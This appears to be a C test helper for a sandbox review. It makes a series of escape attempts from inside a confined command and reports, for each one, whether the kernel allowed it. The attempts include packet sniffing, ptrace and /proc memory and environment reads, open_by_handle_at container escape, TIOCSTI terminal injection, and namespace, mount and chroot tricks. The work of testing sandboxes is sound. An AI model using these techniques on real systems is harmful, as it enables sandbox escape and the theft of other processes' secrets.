/* Attacks run from inside a confined command; each prints one line saying
 * what the kernel let it do. Built by tests/shell_walls_review.rs. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <linux/if_packet.h>
#include <linux/if_ether.h>
#include <net/if.h>
#include <time.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif

static const char *MARK = "review-wall-mark";

static void report(const char *what, int rc) {
    if (rc < 0) printf("%s: refused (%s)\n", what, strerror(errno));
    else printf("%s: ALLOWED\n", what);
    fflush(stdout);
}

static struct sockaddr_in loopback(int port) {
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return a;
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    const char *cmd = argv[1];
    int port = argc > 2 ? atoi(argv[2]) : 0;
    if (!strcmp(cmd, "mptcp")) {
        int fd = socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP);
        if (fd < 0) { report("mptcp socket", -1); return 0; }
        struct sockaddr_in a = loopback(port);
        int rc = connect(fd, (struct sockaddr *)&a, sizeof a);
        if (rc == 0) rc = write(fd, MARK, strlen(MARK));
        report("mptcp connect", rc);
    } else if (!strcmp(cmd, "tfo")) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = loopback(port);
        int rc = sendto(fd, MARK, strlen(MARK), MSG_FASTOPEN, (struct sockaddr *)&a, sizeof a);
        report("tcp fast open sendto", rc);
    } else if (!strcmp(cmd, "tfo-connect")) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        int one = 1;
        setsockopt(fd, IPPROTO_TCP, 30 /* TCP_FASTOPEN_CONNECT */, &one, sizeof one);
        struct sockaddr_in a = loopback(port);
        int rc = connect(fd, (struct sockaddr *)&a, sizeof a);
        if (rc == 0) rc = write(fd, MARK, strlen(MARK));
        report("tcp fastopen_connect", rc);
    } else if (!strcmp(cmd, "listen")) {
        /* listen() without bind() binds an ephemeral port by itself. */
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        int rc = listen(fd, 4);
        report("listen without bind", rc);
        if (rc == 0) {
            struct sockaddr_in a; socklen_t l = sizeof a;
            getsockname(fd, (struct sockaddr *)&a, &l);
            printf("listening on port %d\n", ntohs(a.sin_port));
            fflush(stdout);
            int f = open("listen.port", O_WRONLY | O_CREAT | O_TRUNC, 0644);
            dprintf(f, "%d", ntohs(a.sin_port));
            close(f);
            struct pollfd p = {fd, POLLIN, 0};
            if (poll(&p, 1, 8000) == 1) {
                int c = accept(fd, NULL, NULL);
                report("accept from outside", c);
            } else printf("nobody came\n");
        }
    } else if (!strcmp(cmd, "udp")) {
        int fd = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in a = loopback(port);
        report("udp sendto", sendto(fd, MARK, strlen(MARK), 0, (struct sockaddr *)&a, sizeof a));
    } else if (!strcmp(cmd, "unix")) {
        int fd = socket(AF_UNIX, SOCK_STREAM, 0);
        struct sockaddr_un a = {0};
        a.sun_family = AF_UNIX;
        strncpy(a.sun_path, argv[2], sizeof a.sun_path - 1);
        int rc = connect(fd, (struct sockaddr *)&a, sizeof a);
        if (rc == 0) rc = write(fd, MARK, strlen(MARK));
        report("unix path connect", rc);
    } else if (!strcmp(cmd, "raw")) {
        report("raw ip socket", socket(AF_INET, SOCK_RAW, IPPROTO_TCP));
        report("packet socket", socket(AF_PACKET, SOCK_RAW, 0));
    } else if (!strcmp(cmd, "sniff")) {
        /* Read the loopback traffic of other processes for a few seconds. */
        int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
        if (fd < 0) { report("packet socket", -1); return 0; }
        struct sockaddr_ll ll = {0};
        ll.sll_family = AF_PACKET;
        ll.sll_protocol = htons(ETH_P_ALL);
        ll.sll_ifindex = if_nametoindex("lo");
        bind(fd, (struct sockaddr *)&ll, sizeof ll);
        time_t end = time(NULL) + 5;
        static char b[65536];
        while (time(NULL) < end) {
            struct pollfd p = {fd, POLLIN, 0};
            if (poll(&p, 1, 500) != 1) continue;
            ssize_t n = recv(fd, b, sizeof b, 0);
            for (ssize_t i = 0; i + 20 <= n; i++)
                if (!memcmp(b + i, "review-sniffed-secret", 20)) {
                    printf("SNIFFED: %.24s\n", b + i);
                    return 0;
                }
        }
        printf("sniffed nothing\n");
    } else if (!strcmp(cmd, "netadmin")) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        int mark = 7;
        report("SO_MARK (CAP_NET_ADMIN)", setsockopt(fd, SOL_SOCKET, SO_MARK, &mark, sizeof mark));
    } else if (!strcmp(cmd, "reboot")) {
        /* Wrong magic: EINVAL if CAP_SYS_BOOT is held, EPERM otherwise. Never reboots. */
        long rc = syscall(SYS_reboot, 0, 0, 0, NULL);
        printf("reboot with bad magic: %s\n", rc < 0 && errno == EINVAL ? "CAP_SYS_BOOT HELD" : strerror(errno));
    } else if (!strcmp(cmd, "ptrace")) {
        pid_t pid = port;
        report("ptrace attach", ptrace(PTRACE_ATTACH, pid, 0, 0));
        char buf[64];
        struct iovec l = {buf, sizeof buf}, r = {(void *)0x400000, sizeof buf};
        report("process_vm_readv", (int)process_vm_readv(pid, &l, 1, &r, 1, 0));
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/mem", pid);
        int mfd = open(path, O_RDONLY);
        report("open mem", mfd);
        if (mfd >= 0) { char b[16]; report("pread mem", (int)pread(mfd, b, sizeof b, 0x400000)); }
        snprintf(path, sizeof path, "/proc/%d/environ", pid);
        int efd = open(path, O_RDONLY);
        report("open environ", efd);
        if (efd >= 0) {
            char b[65536]; long n = read(efd, b, sizeof b - 1);
            if (n < 0) report("read environ", -1);
            else { for (long i = 0; i < n; i++) if (!b[i]) b[i] = ' '; b[n] = 0; printf("ENVIRON(%ld): %s\n", n, b); }
        }
        snprintf(path, sizeof path, "/proc/%d/root/etc/hostname", pid);
        report("open root/", open(path, O_RDONLY));
        snprintf(path, sizeof path, "/proc/%d/fd/0", pid);
        report("open fd/0", open(path, O_RDONLY));
        int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
        if (pidfd >= 0) {
            report("pidfd_getfd", (int)syscall(SYS_pidfd_getfd, pidfd, 0, 0));
            report("pidfd_send_signal", (int)syscall(SYS_pidfd_send_signal, pidfd, 0, NULL, 0));
        }
        report("kill 0", kill(pid, 0));
    } else if (!strcmp(cmd, "handle")) {
        /* open_by_handle_at (CAP_DAC_READ_SEARCH), the classic container escape. */
        struct { struct file_handle h; unsigned char b[128]; } fh;
        fh.h.handle_bytes = 128;
        int mnt;
        int rc = name_to_handle_at(AT_FDCWD, argv[2], &fh.h, &mnt, 0);
        report("name_to_handle_at", rc);
        if (rc == 0) {
            int mfd = open(".", O_RDONLY | O_DIRECTORY);
            int fd = open_by_handle_at(mfd, &fh.h, O_RDONLY);
            report("open_by_handle_at", fd);
            if (fd >= 0) { char b[256]; int n = read(fd, b, 255); if (n > 0) { b[n] = 0; printf("READ: %s\n", b); } }
        }
    } else if (!strcmp(cmd, "tty")) {
        int fd = open("/dev/tty", O_RDWR);
        report("open /dev/tty", fd);
        if (fd >= 0) {
            report("write /dev/tty", (int)write(fd, "TTY-REACHED\n", 12));
            const char *inject = "echo INJECTED\n";
            int rc = 0;
            for (const char *p = inject; *p && rc == 0; p++) rc = ioctl(fd, TIOCSTI, p);
            report("TIOCSTI", rc);
        }
    } else if (!strcmp(cmd, "fd")) {
        /* A descriptor the command did not open: read what is behind it. */
        char b[256];
        int n = read(port, b, sizeof b - 1);
        if (n < 0) report("read inherited fd", -1);
        else { b[n] = 0; printf("READ: %s\n", b); }
    } else if (!strcmp(cmd, "clone-parent")) {
        /* CLONE_PARENT: the new process becomes our parent's child. */
        pid_t pid = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0);
        if (pid == 0) { execl("/bin/sh", "sh", "-c", "sleep 30", argv[2], (char *)0); _exit(1); }
        report("clone(CLONE_PARENT)", pid);
    } else if (!strcmp(cmd, "subreaper")) {
        /* Become a subreaper ourselves, leave a grandchild, then exit. */
        report("PR_SET_CHILD_SUBREAPER", prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0));
        if (fork() == 0) {
            if (fork() == 0) { setsid(); execl("/bin/sh", "sh", "-c", "sleep 30", argv[2], (char *)0); _exit(1); }
            _exit(0);
        }
        usleep(200000);
    } else if (!strcmp(cmd, "zombies")) {
        /* Many children that exit and are never reaped, under a sleeping parent. */
        for (int i = 0; i < 500; i++) if (fork() == 0) _exit(0);
        execl("/bin/sh", "sh", "-c", "sleep 30", argv[2], (char *)0);
    } else if (!strcmp(cmd, "oom")) {
        int fd = open("/proc/self/oom_score_adj", O_WRONLY);
        int rc = fd < 0 ? -1 : (int)write(fd, "-1000", 5);
        report("oom_score_adj -1000", rc);
    } else if (!strcmp(cmd, "unshare")) {
        report("unshare(NEWNET|NEWUTS|NEWIPC)", unshare(CLONE_NEWNET | CLONE_NEWUTS | CLONE_NEWIPC));
        report("unshare(NEWNS)", unshare(CLONE_NEWNS));
        report("mount tmpfs on workspace", mount("none", ".", "tmpfs", 0, NULL));
        report("umount /proc", umount2("/proc", MNT_DETACH));
        report("chroot .", chroot("."));
    }
    return 0;
}
